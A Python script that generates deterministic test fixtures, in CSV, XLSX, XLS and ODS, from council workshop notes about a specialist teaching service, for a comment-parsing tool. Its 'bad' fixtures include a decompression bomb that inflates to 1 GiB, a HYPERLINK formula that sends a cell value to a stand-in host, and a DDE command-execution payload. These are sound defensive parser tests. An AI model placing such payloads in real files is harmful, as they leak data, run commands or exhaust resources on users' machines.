#!/usr/bin/env python3
"""(Re)generate every file under fixtures/ deterministically.

Usage:  python3 tools/make_fixtures.py [--no-bomb] [--check-only]

Which tool produced which file (keep in sync with fixtures/README.md):

  *.csv, *.tsv, *.txt      Python 3.11 stdlib `csv` + `codecs` (Excel dialect settings:
                           QUOTE_MINIMAL, doubled quotes, bare LF inside quoted fields).
  formats/comments.xlsx, demo/stls-notes.xlsx, bad/truncated.xlsx (before the cut),
  bad/huge-dimension.xlsx and bad/zip-bomb.xlsx (before their XML edits)
                           openpyxl 3.1.5 (inline strings, as openpyxl writes them).
  formats/comments.sst.xlsx, formats/comments.xls, formats/comments.ods
                           LibreOffice 7.4.7.2 headless `soffice --convert-to`
                           ("Calc Office Open XML", "MS Excel 97", "calc8") from
                           formats/comments.xlsx.
  bad/huge-dimension.xlsx, bad/zip-bomb.xlsx
                           sheet XML edited/streamed with Python's `zipfile`.
  bad/random.xlsx, bad/random-chat.txt
                           SHA-256 counter-mode byte stream (hashlib), fixed seeds.

Determinism: every zip container (xlsx, ods) is rewritten by normalise_zip():
entry timestamps are set to 1980-01-01 00:00:00 and the document-property
dates (docProps/core.xml, meta.xml) to fixed 2024 dates; nothing else is
changed. LibreOffice's .xls output carries the (fixed) dates of its .xlsx
source, so it is byte-stable too. Running the script twice gives identical
bytes (checked by `git diff --stat fixtures` after a re-run).

Needs: pip install openpyxl xlrd ; apt-get install libreoffice-calc-nogui
(xlrd is only used to read the .xls back for the self-check.)
"""

import codecs
import csv
import hashlib
import io
import os
import re
import shutil
import subprocess
import sys
import tempfile
import zipfile
import xml.etree.ElementTree as ET
from datetime import datetime

import openpyxl
from openpyxl.styles import Alignment, Font

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
FIX = os.path.join(ROOT, "fixtures")
FIXED_DT = datetime(2024, 3, 15, 9, 0, 0)
FIXED_ISO = "2024-03-15T09:00:00Z"
ZIP_EPOCH = (1980, 1, 1, 0, 0, 0)

# ---------------------------------------------------------------------------
# 1. The format set: 30 STLS workshop post-its, one blank.
#    (ref, option number, Option cell as typed, Question cell as typed, Comment)
#    Everything must be representable in Windows-1252.
# ---------------------------------------------------------------------------
FORMAT_ROWS = [
    (1, 1, "Option 1", "Advantages",
     "Saves the council money in the short term – maybe £2m a year?"),
    (2, 1, "option 1", "advantages", "None for children. None for schools."),
    (3, 1, "Option 1", "Disadvantages",
     "SENCos lose the training, advice and modelling they get from specialist teachers"),
    (4, 1, "1", "DISADVANTAGES",
     "Schools become less inclusive, more children end up on part-time timetables"),
    (5, 1, "Option One", "disadvantages",
     "Parents’ confidence in mainstream drops – they’ll push for special school places"),
    (6, 1, "Option 1", "Risks",
     "Rise in EHCP requests, and tribunals; costs go up not down"),
    (7, 1, "option 1", "risks", "More exclusions\nLower attendance\nMore specialist placements"),
    (8, 1, "Option 1", "Benefits", "No benefits to ending it."),
    (9, 1, "1", "Benefits", ""),
    (10, 2, "option two", "Advantages",
     "Keeps the “team around the school” – EPs, SALT and STLS at the same LIFT table"),
    (11, 2, "Option 2 - No change (HNF)", "advantages",
     "Consistent offer across all 12 districts, no postcode lottery"),
    (12, 2, "Option 2 - No change (HNF)", "Disadvantages",
     "HNF is already overspent by £40m+ so this isn't sustainable"),
    (13, 2, "2", "Benefits",
     "Staff wellbeing – SENCos know who to call, they're not on their own"),
    (14, 2, "Option 2", "benefits",
     "Zoë (Y1 teacher) said the ‘drop-in’ surgeries are the only CPD she gets on autism"),
    (15, 2, "option two", "Risks",
     "Service still diminishes if the budget is frozen at 2023/24 levels"),
    (16, 2, "Option 2 - No change (HNF)", "RISKS",
     'Said at table 3: "if nothing changes, nothing changes"'),
    (17, 3, "3", "Advantages",
     "Schools can buy exactly what they need, e.g. a 6-week SALT package for £450"),
    (18, 3, "Option 3 – Traded service", "advantages", "Flexible, bespoke, responsive to local need"),
    (19, 3, "3", "Disadvantages",
     "Small rural primaries can't afford it, so inequality grows: the schools with the least money have the most need"),
    (20, 3, "Option 3 – Traded service", "disadvantages", "- no accountability, who checks quality?"),
    (21, 3, "3", "Benefits", "Short-term cost benefit to the LA…"),
    (22, 3, "option 3", "risks", "Specialist teachers made redundant, expertise lost for good"),
    (23, 3, "3", "Risks", "Traded = “pay to play”.\nThe café-style drop-ins would go first"),
    (24, 4, "Option 4 – Funded by schools", "Advantages",
     "Clusters decide priorities locally, e.g. more SEMH, less sensory"),
    (25, 4, "option four", "advantages", "Heads have ownership of the budget"),
    (26, 4, "Option 4 – Funded by schools", "Disadvantages",
     'Who leads the cluster? Who holds the money, the "lead head"?'),
    (27, 4, "4", "disadvantages", "Inconsistent – each locality will do it differently"),
    (28, 4, "Option 4", "Benefits", "Links with the localities model"),
    (29, 4, "Option 4 – Funded by schools", "Risks",
     "Schools in deficit (some £100k+) will opt out, then the most vulnerable pupils lose out"),
    (30, 4, "option four", "risks",
     "Paediatric referrals rely on STLS reports; if schools don't fund it, waits go from 18 months to 2 years+"),
]
FORMAT_HEADER = ["Ref", "Option", "Question", "Comment"]


def cell_value(text):
    """What a person typing `text` into Excel ends up with: digits become numbers."""
    if isinstance(text, int):
        return text
    if re.fullmatch(r"\d+", text):
        return int(text)
    return text if text != "" else None


def format_table():
    """The format set as the list of string rows every text format carries."""
    rows = [FORMAT_HEADER]
    for ref, _n, opt, q, comment in FORMAT_ROWS:
        rows.append([str(ref), opt, q, comment])
    return rows


# ---------------------------------------------------------------------------
# 2. Demo: STLS in-person workshop notes (stakeholder group "stls").
#    Per (option, question): list of (comment, [intended themes, primary first]).
#    "" = blank post-it (no comment). [] = intentionally untagged.
# ---------------------------------------------------------------------------
DEMO = {
    (1, "advantages"): [
        ("Saves KCC money in short term", ["funding"]),
        ("HNF saving – approx £3.1m pa could go elsewhere", ["funding"]),
    ],
    (1, "disadvantages"): [
        ("Loss of training for SENCos and TAs – who delivers the ASD training now??", ["training_support"]),
        ("No one to give advice when a child is struggling, schools left on their own", ["training_support"]),
        ("Loss of specialist advice & modelling in class", ["training_support"]),
        ("SENCo's lose their go-to for advise", ["training_support"]),
        ("EY settings lose support - EY is where we make the biggest difference", ["training_support"]),
        ("Schools less inclusive - more kids pushed out to special", ["inclusion"]),
        ("Inclusion goes backwards, years of work undone", ["inclusion"]),
        ("Inclusive practise will decline esp in secondary", ["inclusion"]),
        ("Children with SEND wont recieve the support they need in mainstream", ["inclusion"]),
        ("Parents lose confidence in mainstream schools", ["parents_families"]),
        ("Parents wont trust schools to meet need -> more EHCP requests", ["parents_families", "ehcp"]),
        ("Exclusions will go up", ["impact_measures"]),
        ("Attendance drops, more EBSA / school refusal", ["impact_measures"]),
        ("Teachers overwhelmed, more stress, SENCo burnout", ["mainstream_staff"]),
        ("Staff confidence in meeting SEMH needs drops", ["mainstream_staff"]),
        ("Lose link with EPs, SALT, OT – the multi-agency work just stops", ["multi_agency"]),
        ("Paeds rely on our reports for the ASD pathway", ["multi_agency"]),
        ("LIFT meetings would end, nowhere to discuss children early", ["lift"]),
        ("Specialist teachers lose jobs, expertise gone from Kent", ["stls_service"]),
        ("Same as table 2 said", []),
    ],
    (1, "benefits"): [
        ("None", ["none"]),
        ("No benefits", ["none"]),
        ("", []),
        ("nil - cant think of any for CYP", ["none"]),
    ],
    (1, "risks"): [
        ("KCC reputation – this would be all over the local press", ["society_reputation"]),
        ("Long term cost to society, these children become NEET adults", ["society_reputation"]),
        ("LA still has a legal duty under the Children & Families Act, cant just stop", ["society_reputation"]),
        ("Rise in EHCP requests", ["ehcp"]),
        ("More EHC plans, more tribunals, more cost", ["ehcp", "funding"]),
        ("Tribunals increase – parents will go legal", ["ehcp"]),
        ("Perm exclusions up", ["impact_measures"]),
        ("More suspensions and part time timetables", ["impact_measures"]),
        ("Specialist placements increase, more children in indep special", ["impact_measures"]),
        ("CATIE aims wont be met\nattendance falls", ["impact_measures"]),
        ("HNF spend goes UP not down", ["funding"]),
        ("Costs of withdrawing the contract – redundancy, TUPE etc", ["funding"]),
        ("Will cost more in the long run", ["funding"]),
        ("Staff burn out", ["mainstream_staff"]),
        ("Teacher retention in mainstream, people will leave", ["mainstream_staff"]),
        ("More referrals to outside agencies, waiting lists get longer", ["multi_agency"]),
        ("Referrals to CAMHS/paeds go through the roof", ["multi_agency"]),
        ("Schools less inclusive", ["inclusion"]),
        ("Escalating behaviour in class, more violent incidents", ["behaviour"]),
        ("Undermines the APP – accelerated progress plan needs STLS", ["app"]),
    ],
    (2, "advantages"): [
        ("Keeps inclusion at the centre", ["inclusion"]),
        ("Children stay in mainstream, local school with their friends", ["inclusion"]),
        ("Inclusive practise continues to grow", ["inclusion"]),
        ("Supports mainstream staff – they know who to ring", ["mainstream_staff"]),
        ("Teachers feel supported & confident with complex needs", ["mainstream_staff"]),
        ("Reduces staff stress, helps retention", ["mainstream_staff"]),
        ("Reduced perm exclusions – we have the data", ["impact_measures"]),
        ("Keeps attendance up for ASD/SEMH pupils", ["impact_measures"]),
        ("Fewer specialist placements = less pressure on special schools", ["impact_measures"]),
        ("Parents confidence that mainstream can meet need", ["parents_families"]),
        ("Parents trust the STLS advice, they feel listened to", ["parents_families"]),
        ("Cost saving – keeping a child in mainstream is far cheaper than indep special (£60k+)", ["funding"]),
        ("Good for society, community cohesion", ["society_reputation"]),
        ("Consistency for schools – same service they know", ["consistency"]),
        ("Maintains multi agency links with health, EPs, social care", ["multi_agency"]),
        ("Training offer stays – Thrive, ELSA, AET", ["training_support"]),
        ("LIFT continues = early intervention", ["lift"]),
    ],
    (2, "disadvantages"): [
        ("Cost. HNF deficit isnt going away", ["funding"]),
    ],
    (2, "benefits"): [
        ("Consistency of staff and resources", ["consistency"]),
        ("Consistant offer across all districts", ["consistency"]),
        ("Same quality of service in every district, no postcode lottery", ["consistency"]),
        ("Consistency – relationships with schools carry on", ["consistency"]),
        ("Consistent approach countywide, equity for all", ["consistency"]),
        ("Wellbeing for mainstream staff", ["mainstream_staff"]),
        ("Saves money longer term", ["funding"]),
    ],
    (2, "risks"): [
        ("If funding stays flat the service gets stretched thinner and thinner", ["stls_service", "funding"]),
        ("", []),
    ],
    (3, "advantages"): [
        ("Cost saving for LA", ["funding"]),
        ("Cheaper for KCC", ["funding"]),
        ("Flexible – can adapt to local market/need", ["flexibility"]),
    ],
    (3, "disadvantages"): [
        ("Schools cant afford to buy in, budgets already stretched", ["funding"]),
        ("Cost to schools – they'd be paying twice", ["funding"]),
        ("Profit prioritised over children", ["funding"]),
        ("Small schools priced out", ["funding", "inclusion"]),
        ("Reputation of KCC damaged", ["society_reputation"]),
        ("Long-term impact on community – more children outside education", ["society_reputation"]),
        ("LA legal duties for SEND still there whatever model", ["society_reputation"]),
        ("Lose consistency across the county", ["consistency"]),
        ("Postcode lottery – depends what your school buys", ["consistency"]),
        ("Progress made over last 5 yrs lost, inconsistency between schools", ["consistency"]),
        ("Inequality – rich schools get a service, poor ones dont", ["inclusion"]),
        ("Childrens access depends on the school not on need – not inclusive", ["inclusion"]),
        ("Multi-agency working breaks down", ["multi_agency"]),
        ("EP and health colleagues wont know who to go to", ["multi_agency"]),
        ("Who is accountable for quality?", ["accountability"]),
        ("No QA, no governance", ["accountability"]),
        ("Lack of accountability – no-one oversees it", ["accountability"]),
        ("Quality of service drops, becomes generic", ["stls_service"]),
        ("Transition support lost – no one pays for yr 6 to 7", ["transition"]),
        ("Evidence for EHC needs assessment harder to get", ["ehcp"]),
        ("Less training, schools only buy in for firefighting", ["training_support"]),
        ("LIFT wouldnt work if it's traded", ["lift"]),
        ("Same as option 1 really", []),
    ],
    (3, "benefits"): [
        ("Maintains a service", ["stls_service"]),
        ("", []),
        ("Short term cost benefit", ["funding"]),
    ],
    (3, "risks"): [
        ("Service diminished", ["stls_service"]),
        ("STLS staff leave, recruitment impossible", ["stls_service"]),
        ("Service not used enough to be viable -> redundancies", ["stls_service", "funding"]),
        ("Specialist teachers overstretched", ["stls_service"]),
        ("Cost to schools", ["funding"]),
        ("Financial viability of the service", ["funding"]),
        ("Schools in deficit wont buy", ["funding"]),
        ("EY settings cant pay at all", ["funding"]),
        ("Inequality and inclusion – vulnerable pupils miss out", ["inclusion"]),
        ("Less inclusive schools", ["inclusion"]),
        ("SEND pupils in schools that dont buy in get excluded", ["inclusion", "impact_measures"]),
        ("Rise in EHCPs", ["ehcp"]),
        ("Transition EY to primary suffers", ["transition"]),
        ("Reputational risk for the council", ["society_reputation"]),
        ("Legislative requirements not met, LA open to challenge", ["society_reputation"]),
        ("Long term cost to society", ["society_reputation"]),
    ],
    (4, "advantages"): [
        ("Respond to need within cluster", ["localities", "flexibility"]),
        ("", []),
        ("Depends on the SLA holder", []),
    ],
    (4, "disadvantages"): [
        ("STLS staff – job insecurity, year to year contracts", ["stls_service"]),
        ("Service fragmented across 12 districts", ["stls_service", "consistency"]),
        ("Specialist teachers spread too thin", ["stls_service"]),
        ("Inconsistent across clusters", ["consistency"]),
        ("Inconsistency, every locality a different offer", ["consistency"]),
        ("Disparity between districts", ["consistency"]),
        ("Financial impact on already stretched schools", ["funding"]),
        ("Extra workload for SENCos/heads managing the money", ["mainstream_staff"]),
        ("Time mgmt – heads havent got time for another panel", ["mainstream_staff"]),
        ("SENCo wellbeing – more pressure", ["mainstream_staff"]),
        ("Less inclusive, schools keep the money for their own", ["inclusion"]),
        ("More tribunals when the support isnt there", ["ehcp"]),
        ("Parents lose confidence in mainstream", ["parents_families"]),
        ("Who chairs the cluster decisions? Locality model not ready", ["localities"]),
        ("Secondary heads would dominate the locality board", ["localities"]),
    ],
    (4, "benefits"): [
        ("Maintains a service", ["stls_service"]),
        ("Links with the locality model proposals", ["localities"]),
    ],
    (4, "risks"): [
        ("Schools cant afford it", ["funding"]),
        ("Financial hardship for small schools", ["funding"]),
        ("Schools wont want to fund it from their HNF allocation", ["funding"]),
        ("Lack of inclusion, equality", ["inclusion"]),
        ("Inequality of access for vulnerable CYP", ["inclusion"]),
        ("Some clusters opt out – those children lose out", ["inclusion"]),
        ("Lack of consistency across clusters/schools/districts", ["consistency"]),
        ("Postcode lottery", ["consistency"]),
        ("QA and governance – who checks?", ["accountability"]),
        ("Accountability unclear\nwho answers to parents?", ["accountability", "parents_families"]),
        ("Diminished service", ["stls_service"]),
        ("Locality leads wont have the SEND knowledge to commission it", ["localities"]),
        ("Behaviour support gets cut first", ["behaviour"]),
    ],
}

# How the facilitators typed the Option and Question cells (rotated deterministically).
DEMO_OPTION_FORMS = {
    1: ["Option 1", "1", "option 1", "Option 1 – Service ends", "Option One", "OPTION 1"],
    2: ["Option 2", "2", "option two", "Option 2 - No change (HNF)", "Option 2 – HNF"],
    3: ["Option 3", "3", "option 3", "Option 3 – Traded service", "option three"],
    4: ["Option 4", "4", "option four", "Option 4 – Funded by schools", "Option 4 - schools fund"],
}
DEMO_QUESTION_FORMS = {
    "advantages": ["Advantages", "advantages", "ADVANTAGES"],
    "disadvantages": ["Disadvantages", "disadvantages", "DISADVANTAGES"],
    "benefits": ["Benefits", "benefits", "BENEFITS"],
    "risks": ["Risks", "risks", "RISKS"],
}
DEMO_WORKSHOPS = ["7 March 2024 (Workshop 1)", "15 March 2024 am (Workshop 2)", "15 March 2024 pm (Workshop 3)"]
QUESTIONS = ["advantages", "disadvantages", "benefits", "risks"]


def demo_rows():
    """Rows (ref, workshop, option cell, question cell, comment, option no, question, themes)."""
    items = []
    for opt in (1, 2, 3, 4):
        for q in QUESTIONS:
            for i, (text, themes) in enumerate(DEMO.get((opt, q), [])):
                w = (i + opt) % 3  # spread each block over the three workshops
                items.append((w, opt, QUESTIONS.index(q), i, text, themes, q))
    items.sort(key=lambda t: (t[0], t[1], t[2], t[3]))
    rows = []
    for n, (w, opt, _qi, i, text, themes, q) in enumerate(items, start=1):
        oforms = DEMO_OPTION_FORMS[opt]
        qforms = DEMO_QUESTION_FORMS[q]
        rows.append((f"S{n:03d}", DEMO_WORKSHOPS[w], oforms[(n * 7) % len(oforms)],
                     qforms[(n * 5) % len(qforms)], text, opt, q, themes))
    return rows


# Internal stakeholders' steering group (13 March 2024), typed up by two officers.
INTERNAL = [
    ("Option 1", "Advantages", "Saving of c.£3.1m a year from the HNF budget", "Priya Patel"),
    ("Option 1", "Disadvantages", "Loses a service that schools clearly value – feedback would be very negative", "Priya Patel"),
    ("Option 1", "Benefits", "Frees up HNF for “other priorities” – none identified yet", "Priya Patel"),
    ("Option 1", "Risks", "Cost shunted elsewhere: EHCP assessments, specialist placements", "Priya Patel"),
    ("Option 1", "Risks", "Negative feedback from schools, parents and members", "Priya Patel"),
    ("Option 1", "Risks", "Demand for other external support services (EPs, outreach) rises", "Priya Patel"),
    ("Option 1", "Risks", "Decrease in inclusive practices across mainstream", "Priya Patel"),
    ("3", "Benefits", "Service could generate income if the ‘offer’ is right", "Siobhán O’Neill"),
    ("3", "Risks", "Schools won’t buy – market too small to sustain 12 district teams", "Siobhán O’Neill"),
    ("3", "Risks", "Traded income is volatile year to year; can’t plan staffing", "Siobhán O’Neill"),
    ("3", "Risks", "Equity:\nschools with the highest need have the least money", "Siobhán O’Neill"),
    ("Option 4 – Funded by schools", "Advantages", "Schools get a say in how the money is spent", "Siobhán O’Neill"),
    ("Option 4 – Funded by schools", "Advantages", "Fits with the Localities model", "Siobhán O’Neill"),
    ("Option 4 – Funded by schools", "Benefits", "Decisions made closer to the child", "Siobhán O’Neill"),
    ("Option 4 – Funded by schools", "Benefits", "Could release c.£250k of central admin", "Siobhán O’Neill"),
    ("option four", "Risks", "Schools don’t want to fund the service from their own allocation", "Priya Patel"),
    ("option four", "Risks", "Funding: a £1.2m gap if even a third of schools opt out", "Priya Patel"),
    ("option four", "Risks", "STLS capacity decreases as posts are cut", "Priya Patel"),
    ("option four", "Risks", "Inequality between clusters – inclusion suffers", "Priya Patel"),
    ("option four", "Risks", "Lack of consistency across the 12 districts", "Priya Patel"),
]


# ---------------------------------------------------------------------------
# helpers
# ---------------------------------------------------------------------------
def path(*parts):
    p = os.path.join(FIX, *parts)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    return p


def write_bytes(p, data):
    with open(p, "wb") as f:
        f.write(data)


def csv_bytes(rows, delimiter=",", lineterminator="\r\n"):
    buf = io.StringIO(newline="")
    w = csv.writer(buf, delimiter=delimiter, quotechar='"', quoting=csv.QUOTE_MINIMAL,
                   doublequote=True, lineterminator=lineterminator)
    w.writerows(rows)
    return buf.getvalue()


def prng_bytes(seed, n):
    out = bytearray()
    counter = 0
    while len(out) < n:
        out += hashlib.sha256(f"{seed}:{counter}".encode()).digest()
        counter += 1
    return bytes(out[:n])


DATE_FIXES = [
    (rb"<dcterms:created([^>]*)>[^<]*</dcterms:created>",
     rb"<dcterms:created\1>" + FIXED_ISO.encode() + rb"</dcterms:created>"),
    (rb"<dcterms:modified([^>]*)>[^<]*</dcterms:modified>",
     rb"<dcterms:modified\1>" + FIXED_ISO.encode() + rb"</dcterms:modified>"),
    (rb"<meta:creation-date>[^<]*</meta:creation-date>",
     b"<meta:creation-date>2024-03-15T09:00:00</meta:creation-date>"),
    (rb"<dc:date>[^<]*</dc:date>", b"<dc:date>2024-03-15T09:00:00</dc:date>"),
]


def normalise_zip(p, edit=None):
    """Rewrite a zip container with fixed entry timestamps and fixed document dates.

    Entry order, compression method and all other bytes are kept. `edit(name, data)`
    may return replacement bytes for an entry.
    """
    with zipfile.ZipFile(p) as zin:
        entries = [(i, zin.read(i.filename)) for i in zin.infolist()]
    tmp = p + ".tmp"
    with zipfile.ZipFile(tmp, "w") as zout:
        for info, data in entries:
            if info.filename in ("docProps/core.xml", "meta.xml"):
                for pat, rep in DATE_FIXES:
                    data = re.sub(pat, rep, data)
            if edit:
                data = edit(info.filename, data)
            zi = zipfile.ZipInfo(info.filename, date_time=ZIP_EPOCH)
            zi.compress_type = info.compress_type
            zi.external_attr = info.external_attr
            zi.create_system = 3
            zout.writestr(zi, data, compress_type=info.compress_type,
                          compresslevel=None if info.compress_type == zipfile.ZIP_STORED else 6)
    os.replace(tmp, p)


def save_workbook(wb, p):
    wb.properties.creator = "tally fixtures"
    wb.properties.created = FIXED_DT
    wb.properties.modified = FIXED_DT
    wb.save(p)
    normalise_zip(p)


def soffice_convert(src, fmt, outdir):
    """LibreOffice headless conversion with a throw-away profile (no shared state)."""
    exe = shutil.which("soffice") or shutil.which("libreoffice")
    if not exe:
        sys.exit("soffice not found: apt-get install -y libreoffice-calc-nogui")
    with tempfile.TemporaryDirectory() as prof:
        subprocess.run([exe, f"-env:UserInstallation=file://{prof}", "--headless",
                        "--convert-to", fmt, "--outdir", outdir, src],
                       check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                       env=dict(os.environ, TZ="UTC", LANG="C.UTF-8"))


# ---------------------------------------------------------------------------
# formats/
# ---------------------------------------------------------------------------
def make_formats():
    rows = format_table()
    for r in rows:
        for c in r:
            c.encode("cp1252")  # must be representable in cp1252

    write_bytes(path("formats", "comments.utf8.csv"), csv_bytes(rows, lineterminator="\n").encode("utf-8"))
    write_bytes(path("formats", "comments.utf8bom.csv"), codecs.BOM_UTF8 + csv_bytes(rows).encode("utf-8"))
    write_bytes(path("formats", "comments.cp1252.csv"), csv_bytes(rows).encode("cp1252"))
    write_bytes(path("formats", "comments.semicolon.csv"), csv_bytes(rows, delimiter=";").encode("cp1252"))
    write_bytes(path("formats", "comments.utf16.tsv"),
                codecs.BOM_UTF16_LE + csv_bytes(rows, delimiter="\t").encode("utf-16-le"))

    # xlsx by openpyxl: Ref and bare-digit Options are numbers, as Excel stores them when typed.
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Notes"
    ws.append(FORMAT_HEADER)
    for c in ws[1]:
        c.font = Font(bold=True)
    for ref, _n, opt, q, comment in FORMAT_ROWS:
        ws.append([ref, cell_value(opt), q, cell_value(comment)])
        if "\n" in comment:
            ws.cell(row=ws.max_row, column=4).alignment = Alignment(wrap_text=True)
    ws.column_dimensions["B"].width = 28
    ws.column_dimensions["C"].width = 14
    ws.column_dimensions["D"].width = 90
    xlsx = path("formats", "comments.xlsx")
    save_workbook(wb, xlsx)

    # LibreOffice conversions of that xlsx.
    outdir = os.path.dirname(xlsx)
    with tempfile.TemporaryDirectory() as td:
        soffice_convert(xlsx, 'xlsx:Calc Office Open XML', td)
        shutil.move(os.path.join(td, "comments.xlsx"), os.path.join(outdir, "comments.sst.xlsx"))
    normalise_zip(os.path.join(outdir, "comments.sst.xlsx"))
    soffice_convert(xlsx, "xls:MS Excel 97", outdir)
    soffice_convert(xlsx, "ods:calc8", outdir)
    normalise_zip(os.path.join(outdir, "comments.ods"))

    exp = [["Ref", "Option", "Question", "Comment", "Option raw", "Question raw"]]
    for ref, n, opt, q, comment in FORMAT_ROWS:
        exp.append([str(ref), str(n), q.lower(), comment, opt, q])
    write_bytes(path("formats", "expected.csv"), csv_bytes(exp, lineterminator="\n").encode("utf-8"))


# ---------------------------------------------------------------------------
# demo/
# ---------------------------------------------------------------------------
def make_demo():
    rows = demo_rows()
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Notes"
    ws.append(["Ref", "Workshop", "Option", "Question", "Comment"])
    for c in ws[1]:
        c.font = Font(bold=True)
    for ref, w, ocell, qcell, text, *_ in rows:
        ws.append([ref, w, cell_value(ocell), qcell, cell_value(text)])
        ws.cell(row=ws.max_row, column=5).alignment = Alignment(wrap_text=True, vertical="top")
    for col, width in zip("ABCDE", (7, 30, 28, 15, 70)):
        ws.column_dimensions[col].width = width
    ws.freeze_panes = "A2"
    save_workbook(wb, path("demo", "stls-notes.xlsx"))

    coded = [["id", "option", "stakeholder", "question", "primary_theme", "themes", "text"]]
    for ref, _w, _o, _q, text, opt, q, themes in rows:
        if text == "":
            continue
        coded.append([ref, str(opt), "stls", q, themes[0] if themes else "", ";".join(themes), text])
    write_bytes(path("demo", "stls-notes.hand-coded.csv"),
                csv_bytes(coded, lineterminator="\n").encode("utf-8"))

    internal = [["Option", "Question", "Notes", "Recorded by"]] + [list(r) for r in INTERNAL]
    write_bytes(path("demo", "internal-steering.csv"), csv_bytes(internal).encode("cp1252"))


# ---------------------------------------------------------------------------
# bad/
# ---------------------------------------------------------------------------
def small_comment_workbook(p, rows):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Notes"
    for r in rows:
        ws.append(r)
    save_workbook(wb, p)


def make_bomb(p, min_bytes=1 << 30):
    """Valid xlsx whose sheet1.xml inflates to >= 1 GiB (< 2 MB on disk); written streamingly.

    After the header and two real rows, sheet1.xml holds 131,072 more one-cell rows
    (`<row>` without `r`, which the schema allows: "the next row"), each followed by
    whitespace padding to 8 KiB. Whitespace between elements is legal XML, and long
    runs of one byte are what lets deflate reach ~800:1 (a row of XML alone only
    compresses ~270:1, which would not fit 1 GiB into 2 MB).
    """
    small_comment_workbook(p, [["Comment"], ["Exclusions will go up"], ["Parents lose confidence"]])
    with zipfile.ZipFile(p) as zin:
        entries = [(i.filename, zin.read(i.filename)) for i in zin.infolist()]
    unit = 8192
    n_rows = (1 << 30) // unit
    row = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>'
    row = row + b" " * (unit - len(row))
    tmp = p + ".tmp"
    with zipfile.ZipFile(tmp, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as zout:
        for name, data in entries:
            zi = zipfile.ZipInfo(name, date_time=ZIP_EPOCH)
            zi.compress_type = zipfile.ZIP_DEFLATED
            zi.create_system = 3
            zi.external_attr = 0o600 << 16
            if name != "xl/worksheets/sheet1.xml":
                zout.writestr(zi, data)
                continue
            data = data.replace(b'<dimension ref="A1:A3" />',
                                f'<dimension ref="A1:A{n_rows + 3}" />'.encode())
            head, tail = data.split(b"</sheetData>")
            total = 0
            with zout.open(zi, "w", force_zip64=False) as f:
                f.write(head)
                total += len(head)
                block = row * 128            # 1 MiB per write: memory stays small
                for _ in range(n_rows // 128):
                    f.write(block)
                    total += len(block)
                f.write(b"</sheetData>" + tail)
                total += len(tail) + 12
            assert total >= min_bytes, total
    os.replace(tmp, p)


def make_bad(with_bomb=True):
    # random.xlsx: 4 KiB of pseudo-random bytes.
    write_bytes(path("bad", "random.xlsx"), prng_bytes("tally/bad/random.xlsx", 4096))
    write_bytes(path("bad", "random-chat.txt"), prng_bytes("tally/bad/random-chat.txt", 4096))

    # truncated.xlsx: a valid small workbook, cut in half.
    with tempfile.TemporaryDirectory() as td:
        full = os.path.join(td, "full.xlsx")
        small_comment_workbook(full, [["Ref", "Option", "Question", "Comment"]] +
                               [[r[0], cell_value(r[2]), r[3], cell_value(r[4])] for r in FORMAT_ROWS[:8]])
        data = open(full, "rb").read()
    write_bytes(path("bad", "truncated.xlsx"), data[: len(data) // 2])

    # huge-dimension.xlsx: claims A1:XFD1048576 and really has a cell at XFD1048576.
    hd = path("bad", "huge-dimension.xlsx")
    small_comment_workbook(hd, [["Comment"], ["Exclusions will go up"], ["Parents lose confidence"]])

    def far_cell(name, data):
        if name != "xl/worksheets/sheet1.xml":
            return data
        assert b'<dimension ref="A1:A3" />' in data
        data = data.replace(b'<dimension ref="A1:A3" />', b'<dimension ref="A1:XFD1048576"/>')
        return data.replace(b"</sheetData>",
                            b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>far away</t></is></c>'
                            b"</row></sheetData>")
    normalise_zip(hd, far_cell)

    if with_bomb:
        make_bomb(path("bad", "zip-bomb.xlsx"))

    write_bytes(path("bad", "empty.csv"), b"")
    write_bytes(path("bad", "header-only.csv"), b"Ref,Option,Question,Comment\r\n")
    write_bytes(path("bad", "ragged.csv"), (
        "Ref,Option,Question,Comment\r\n"
        "1,Option 1,Advantages,Saves money\r\n"
        "2,Option 1,Risks\r\n"
        "3\r\n"
        "4,Option 2,Benefits,Consistency,extra field,and another\r\n"
        "5,Option 3,Risks,\"Cost to schools, esp. small ones\"\r\n"
    ).encode("utf-8"))
    write_bytes(path("bad", "unterminated-quote.csv"), (
        "Ref,Option,Question,Comment\r\n"
        "1,Option 1,Risks,Exclusions up\r\n"
        "2,Option 2,Benefits,\"Consistency across districts\r\n"
        "3,Option 3,Risks,Cost to schools\r\n"
        "4,Option 4,Risks,Postcode lottery\r\n"
    ).encode("utf-8"))
    write_bytes(path("bad", "nul-bytes.csv"), (
        b"Ref,Option,Question,Comment\r\n"
        b"1,Option 1,Risks,Exclusions\x00 up\r\n"
        b"2,Option 2,Benefits,\"Consistency\x00\x00\x00 across districts\"\r\n"
        b"3,Option 3,Risks,Cost to schools\r\n"
    ))
    # Valid input, hostile content: cells that a spreadsheet would evaluate.
    write_bytes(path("bad", "formula-injection.csv"), csv_bytes([
        ["Ref", "Option", "Question", "Comment"],
        ["1", "Option 1", "Risks", '=HYPERLINK("http://example.invalid/?x="&A1,"click")'],
        ["2", "Option 1", "Risks", "+44 1622 000000 call me about LIFT"],
        ["3", "Option 2", "Benefits", "-5% exclusions since STLS started"],
        ["4", "Option 2", "Benefits", "@SENCo forum says training is great"],
        ["5", "Option 3", "Risks", "\tTab-first cost to schools"],
        ["6", "Option 3", "Risks", "\rCR-first inclusion worry"],
        ["7", "Option 4", "Risks", '=1+2";=1+2'],
        ["8", "=cmd|' /C calc'!A0", "Risks", "formula in a dimension column"],
    ]).encode("utf-8"))


# ---------------------------------------------------------------------------
# self-check: read every format back and compare with the ground truth
# ---------------------------------------------------------------------------
def norm_cell(v):
    if v is None:
        return ""
    if isinstance(v, float) and v.is_integer():
        return str(int(v))
    if isinstance(v, int):
        return str(v)
    return str(v)


def read_ods(p):
    ns = {"table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
          "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
          "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0"}
    T = "{%s}" % ns["text"]

